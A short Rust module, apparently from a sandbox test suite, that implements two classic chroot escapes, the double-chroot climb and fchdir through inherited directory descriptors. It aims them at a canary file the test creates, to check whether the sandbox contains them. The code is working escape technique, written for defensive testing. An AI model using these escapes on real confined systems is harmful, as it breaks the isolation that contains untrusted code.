//! The classic ways out, aimed at a canary that the test made. They work on `chroot(2)`, which is why the
//! project has more than one chapter.

use crate::{Done, files, print_json, told};
use nix::unistd::{chdir, chroot, fchdir};
use shared::sys;

/// No directory is deeper than this.
const DEPTH: usize = 64;
/// Descriptors that a careless caller leaves open are low.
const HIGHEST_FD: i32 = 256;

/// `chroot(2)`: "this call does not change the current working directory, so that after the call '.' can be
/// outside the tree rooted at '/'".
pub fn chroot_twice(canary: &str) -> Done {
    let below = "probe-below";
    told("mkdir", std::fs::create_dir(below))?;
    let changed = chroot(below);
    told("rmdir", std::fs::remove_dir(below))?;
    told("chroot", changed)?;
    // The working directory is above the new root now, so ".." never meets it.
    climb()?;
    read(canary)
}

/// Every descriptor of a directory is a way out, whatever the root is.
pub fn inherited(canary: &str) -> Done {
    let mut tried = 0;
    for number in 3..HIGHEST_FD {
        let Ok(directory) = sys::duplicate(number) else { continue };
        tried += 1;
        if fchdir(&directory).is_ok() && climb().is_ok() && read(canary).is_ok() {
            return Ok(());
        }
    }
    Err(format!("no way out: {tried} inherited descriptors"))
}

fn climb() -> Done {
    for _ in 0..DEPTH {
        told("chdir ..", chdir(".."))?;
    }
    told("chroot .", chroot("."))
}

fn read(canary: &str) -> Done {
    print_json(&files::stat(canary)?)?;
    files::cat(canary)
}
